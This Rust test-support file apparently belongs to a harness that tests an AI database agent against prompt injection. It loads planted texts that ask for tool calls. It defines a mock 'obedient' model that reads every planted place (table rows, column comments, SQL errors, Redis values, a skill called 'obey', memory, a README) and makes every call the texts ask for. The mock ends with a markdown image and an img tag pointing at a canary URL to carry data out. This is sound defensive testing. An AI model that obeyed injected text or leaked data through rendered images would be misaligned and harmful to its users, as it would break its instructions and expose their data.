//! The driver that believes everything it reads.

use std::{
    collections::{BTreeSet, HashSet},
    sync::LazyLock,
};

use serde_json::{Value, json};

use super::world::World;
use crate::support::model_server::{Answer, ModelServer};

/// One planted text.
pub struct Injection {
    /// Where it stands.
    pub place: &'static str,
    /// The tool that it wants called.
    pub tool: &'static str,
    /// With these arguments.
    pub arguments: String,
    /// What it says.
    pub words: &'static str,
}

impl Injection {
    /// The text as it is planted.
    pub fn text(&self) -> String {
        format!("{} [[CALL {} {}]]", self.words, self.tool, self.arguments)
    }
}

/// All of them.
pub static TEXTS: LazyLock<Vec<Injection>> = LazyLock::new(|| {
    include_str!("texts.tsv")
        .lines()
        .filter(|line| !line.starts_with('#'))
        .map(|line| {
            let fields: Vec<&str> = line.split('\t').collect();
            let [place, tool, arguments, words] = fields[..] else { panic!("{line}") };
            serde_json::from_str::<Value>(arguments).unwrap_or_else(|error| panic!("{error}: {line}"));
            Injection { place, tool, arguments: arguments.to_owned(), words }
        })
        .collect()
});

/// The model, and what it was asked.
pub struct Obedient {
    server: ModelServer,
}

/// A model that first reads every place where a text stands, then makes every call that a text
/// asks for, ten at a time, and ends with an answer that would carry data out when it is rendered.
pub async fn obedient(world: &World) -> Obedient {
    let canary = world.canary();
    let mut reads = world.reads();
    let mut followed = HashSet::new();
    let server = ModelServer::start_with(move |_, body| {
        if !reads.is_empty() {
            let now: Vec<(String, Value)> = reads.drain(..reads.len().min(6)).collect();
            return calls(&now);
        }
        let wanted: Vec<(String, Value)> = orders(body)
            .into_iter()
            .filter(|order| followed.insert(order.clone()))
            .take(10)
            .map(|(tool, arguments)| (tool, serde_json::from_str(&arguments).unwrap()))
            .collect();
        if wanted.is_empty() {
            return Answer::text(&format!("Done. ![proof]({canary}/answer?data=rows) <img src=\"{canary}/img\">"));
        }
        calls(&wanted)
    })
    .await;
    Obedient { server }
}

fn calls(calls: &[(String, Value)]) -> Answer {
    let calls: Vec<(&str, Value)> = calls.iter().map(|(tool, arguments)| (tool.as_str(), arguments.clone())).collect();
    Answer::calls("", &calls)
}

/// Everything that was shown as a message, as one text.
fn shown(body: &Value) -> String {
    let messages = body["messages"].as_array().map(Vec::as_slice).unwrap_or_default();
    messages.iter().filter_map(|message| message["content"].as_str()).collect::<Vec<_>>().join("\n")
}

/// The calls that texts among the messages ask for. Results write quotes and line ends in their
/// own way, so a text counts as seen by its words, and what it wants is known.
fn orders(body: &Value) -> Vec<(String, String)> {
    let shown = shown(body);
    TEXTS
        .iter()
        .filter(|text| shown.contains(plain(text.words)))
        .map(|text| (text.tool.to_owned(), text.arguments.clone()))
        .collect()
}

/// The longest part of the words that is shown as it was written, whatever is escaped around it.
fn plain(words: &str) -> &str {
    let harmless = |letter: char| letter.is_ascii_alphanumeric() || matches!(letter, ' ' | ',' | '.' | ':');
    words.split(|letter| !harmless(letter)).max_by_key(|part| part.len()).unwrap_or(words)
}

impl Obedient {
    pub fn base_url(&self) -> String {
        self.server.base_url()
    }

    fn bodies(&self) -> Vec<Value> {
        self.server.asked().into_iter().map(|asked| asked.body).filter(|body| body["messages"].is_array()).collect()
    }

    /// Every text was read, and every call made.
    pub fn saw_and_followed_all(&self, count: usize) {
        let bodies = self.bodies();
        let last = bodies.last().unwrap();
        let seen = orders(last).len();
        let shown = shown(last);
        let missing: Vec<&str> =
            TEXTS.iter().filter(|text| !shown.contains(plain(text.words))).map(|text| text.words).collect();
        assert_eq!(seen, count, "not shown: {missing:#?}");
        let made: usize = bodies.iter().map(|body| body["messages"].as_array().map_or(0, Vec::len)).max().unwrap();
        assert!(made > count, "{made} messages");
    }

    /// The marks of all fences.
    pub fn marks(&self) -> BTreeSet<String> {
        let texts: String = self.bodies().iter().map(shown).collect();
        let pieces = texts.split("<tool_result mark=\"").skip(1);
        pieces.filter_map(|piece| piece.split('"').next()).map(str::to_owned).collect()
    }

    pub fn was_told(&self, text: &str) -> bool {
        self.bodies().iter().any(|body| shown(body).contains(text))
    }

    /// Names of the tools that were ever on offer.
    pub fn offered(&self) -> BTreeSet<String> {
        let bodies = self.bodies();
        let tools = bodies.iter().flat_map(|body| body["tools"].as_array().cloned().unwrap_or_default());
        tools.filter_map(|tool| Some(tool["function"]["name"].as_str()?.to_owned())).collect()
    }
}

/// Calls that read the places.
pub fn reading(table: &str) -> Vec<(String, Value)> {
    let literal: Vec<String> = TEXTS
        .iter()
        .filter(|text| text.place == "literal")
        .map(|text| format!("body <> '{}'", text.text().replace('\'', "''")))
        .collect();
    let mut calls = vec![
        ("psql".to_owned(), json!({"sql": format!("SELECT body FROM {table} ORDER BY id"), "max_rows": 200})),
        ("describe".to_owned(), json!({"name": "customers"})),
        (
            "psql".to_owned(),
            json!({"sql": "SELECT description FROM pg_description d JOIN pg_class c ON c.oid = d.objoid WHERE c.relname LIKE 'customers%' ORDER BY 1"}),
        ),
        ("explain".to_owned(), json!({"sql": format!("SELECT * FROM {table} WHERE {}", literal.join(" AND "))})),
        ("psql".to_owned(), json!({"sql": format!("EXPLAIN SELECT * FROM {table} WHERE {}", literal.join(" AND "))})),
        ("Read".to_owned(), json!({"path": "README.md"})),
        ("load_skill".to_owned(), json!({"name": "obey"})),
        ("memory_search".to_owned(), json!({"text": "triggers report workflow cache restart learned", "limit": 20})),
    ];
    for (at, text) in TEXTS.iter().enumerate() {
        match text.place {
            "error" => calls.push((
                "psql".to_owned(),
                json!({"sql": format!("SELECT '{}'::int", text.text().replace('\'', "''"))}),
            )),
            "value" => calls.push(("redis_cli".to_owned(), json!({"command": format!("GET cache:{at}")}))),
            _ => {}
        }
    }
    calls
}
